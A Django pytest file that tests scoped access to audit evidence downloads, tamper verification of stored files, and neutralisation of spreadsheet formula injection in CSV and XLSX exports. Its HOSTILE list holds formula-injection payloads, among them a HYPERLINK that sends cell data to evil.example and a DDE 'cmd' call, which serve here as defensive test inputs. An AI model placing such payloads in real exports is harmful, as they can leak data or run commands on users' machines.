"""The screens and downloads of a run's evidence (A-04, P-04): each user sees their scope of
the revocation list, only the CQC-wide departments the pack; the files come through views
that check the user, never from a media address; no cell of a download is a live formula."""

import csv
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from access_audit.evidence.pack import evidence_pack_build, pack_names
from access_audit.models import EvidenceFile
from access_audit.tests.evidence_helpers import enforced_run
from directory.constants import Role
from directory.tests.factories import UserFactory

pytestmark = pytest.mark.django_db


@pytest.fixture
def general_business(db):
    return UserFactory(username="generalbiz", role=Role.GENERAL_BUSINESS_OFFICER)


@pytest.fixture
def built(world):
    enforced = enforced_run(world)
    evidence_pack_build(run_id=enforced.run.pk)
    enforced.run.refresh_from_db()
    return enforced


def csv_usernames(response) -> set[str]:
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    return {row[0] for row in list(csv.reader(io.StringIO(text)))[1:]}


def test_a_lab_downloads_its_own_rows_and_not_lab_bs(client, world, built):
    client.force_login(world.lab_a_staff)
    response = client.get(reverse("access_audit:run_revocations_csv", args=[built.run.pk]))
    assert response.status_code == 200
    assert csv_usernames(response) == {r.username for r in built.lab_a}
    page = client.get(reverse("access_audit:run_evidence", args=[built.run.pk]))
    assert page.status_code == 200
    body = page.content.decode()
    assert all(r.username in body for r in built.lab_a)
    assert not any(r.username in body for r in built.lab_b)
    assert 'data-testid="evidence-pack"' not in body


def test_a_lab_cannot_download_the_runs_full_list_or_verify_it(client, world, built):
    client.force_login(world.lab_a_staff)
    for evidence in EvidenceFile.objects.filter(run=built.run):
        response = client.get(reverse("access_audit:evidence_file", args=[evidence.pk]))
        assert response.status_code == 404
    verify = client.post(reverse("access_audit:run_evidence_verify", args=[built.run.pk]))
    assert verify.status_code == 403


def test_a_branch_centre_sees_its_labs_rows_only(client, world, built):
    client.force_login(world.branch_s_reviewer)
    response = client.get(reverse("access_audit:run_revocations_xlsx", args=[built.run.pk]))
    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    usernames = {row[0] for row in sheet.iter_rows(min_row=2, values_only=True)}
    assert usernames == {r.username for r in built.lab_b}


def test_people_without_a_scope_see_no_run(client, world, built):
    for user in (world.body_x_admin, world.evaluator, world.inspector):
        client.force_login(user)
        url = reverse("access_audit:run_evidence", args=[built.run.pk])
        assert client.get(url).status_code == 404
        csv_url = reverse("access_audit:run_revocations_csv", args=[built.run.pk])
        assert client.get(csv_url).status_code == 404
    client.logout()
    response = client.get(reverse("access_audit:run_evidence", args=[built.run.pk]))
    assert response.status_code == 302


def test_the_general_business_dept_downloads_the_pack_and_verifies_it(
    client, built, general_business
):
    client.force_login(general_business)
    page = client.get(reverse("access_audit:run_evidence", args=[built.run.pk]))
    body = page.content.decode()
    assert built.run.manifest_sha256 in body
    for evidence in EvidenceFile.objects.filter(run=built.run):
        assert evidence.sha256 in body
        with evidence.file.storage.open(evidence.file.name, "rb") as handle:
            expected = handle.read()
        response = client.get(reverse("access_audit:evidence_file", args=[evidence.pk]))
        assert response.status_code == 200
        assert response["Cache-Control"] == "private, no-store"
        assert "attachment" in response["Content-Disposition"]
        assert b"".join(response.streaming_content) == expected
    verified = client.post(reverse("access_audit:run_evidence_verify", args=[built.run.pk]))
    assert 'data-testid="verification"' in verified.content.decode()
    assert "完好" in verified.content.decode() or "Intact" in verified.content.decode()
    full = client.get(reverse("access_audit:run_revocations_csv", args=[built.run.pk]))
    assert csv_usernames(full) == {r.username for r in built.lab_a + built.lab_b}


def test_the_verification_screen_says_when_a_file_changed(client, built, general_business):
    evidence = EvidenceFile.objects.get(run=built.run, name=pack_names(built.run)["csv"])
    storage = evidence.file.storage
    storage.delete(evidence.file.name)
    from django.core.files.base import ContentFile

    storage.save(evidence.file.name, ContentFile(b"forged"))
    client.force_login(general_business)
    response = client.post(
        reverse("access_audit:run_evidence_verify", args=[built.run.pk]),
        HTTP_ACCEPT_LANGUAGE="en",
    )
    body = response.content.decode()
    assert "Not intact" in body or "不完好" in body
    assert evidence.name in body


def test_the_pack_is_not_under_a_public_media_address(client, built, general_business):
    evidence = EvidenceFile.objects.filter(run=built.run).first()
    client.force_login(general_business)
    assert client.get("/media/" + evidence.file.name).status_code == 404
    assert client.get("/media-not-served/" + evidence.file.name).status_code == 404


HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"点我")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\x01=cmd|x",
    "\tname",
]


def test_formula_cells_are_neutralised_in_every_spreadsheet(client, world, general_business):
    usernames = {("a", i): value[:60] for i, value in enumerate(HOSTILE[:2])}
    names = {("b", i): value[:30] for i, value in enumerate(HOSTILE[2:4])}
    enforced = enforced_run(world, per_lab=2, usernames=usernames, names=names)
    from access_audit.models import LoginRight

    hostile_reason = HOSTILE[4] + "x" * 2000
    LoginRight.objects.filter(pk=enforced.lab_a[0].pk).update(revoke_reason=hostile_reason)
    evidence_pack_build(run_id=enforced.run.pk)

    def stored(part):
        f = EvidenceFile.objects.get(run=enforced.run, name=pack_names(enforced.run)[part])
        with f.file.open("rb") as handle:
            return handle.read()

    client.force_login(general_business)
    live_csv = b"".join(
        client.get(
            reverse("access_audit:run_revocations_csv", args=[enforced.run.pk])
        ).streaming_content
    )
    live_xlsx = b"".join(
        client.get(
            reverse("access_audit:run_revocations_xlsx", args=[enforced.run.pk])
        ).streaming_content
    )
    for data in (stored("csv"), live_csv):
        for row in csv.reader(io.StringIO(data.decode("utf-8-sig"))):
            assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row)
    for data in (stored("xlsx"), live_xlsx):
        sheet = load_workbook(io.BytesIO(data)).active
        for row in sheet.iter_rows(values_only=True):
            for cell in row:
                assert not (isinstance(cell, str) and cell.startswith(("=", "+", "-", "@")))
    sheet = load_workbook(io.BytesIO(stored("xlsx"))).active
    assert any(row[0] == "'" + HOSTILE[0][:60] for row in sheet.iter_rows(values_only=True))
    # The hostile reason: control character dropped, then neutralised, kept whole.
    reasons = [row[8] for row in sheet.iter_rows(min_row=2, values_only=True)]
    assert "'=cmd|x" + "x" * 2000 in reasons


def test_the_run_list_counts_what_the_user_sees(client, world, built):
    client.force_login(world.lab_b_staff)
    response = client.get(reverse("access_audit:evidence_run_list"))
    assert response.status_code == 200
    assert response.context["rows"] == [(built.run, len(built.lab_b))]


def test_the_screens_answer_in_english(client, built, general_business):
    client.force_login(general_business)
    general_business.language = "en"
    general_business.save(update_fields=["language"])
    response = client.get(
        reverse("access_audit:run_evidence", args=[built.run.pk]), HTTP_ACCEPT_LANGUAGE="en"
    )
    assert response.status_code == 200


@pytest.mark.parametrize("page", ["-1", "abc", "99999", "1" * 400, "\x00"])
def test_hostile_page_numbers_answer_a_page(client, world, built, page):
    client.force_login(world.lab_a_staff)
    response = client.get(reverse("access_audit:run_evidence", args=[built.run.pk]), {"page": page})
    assert response.status_code in (200, 400)
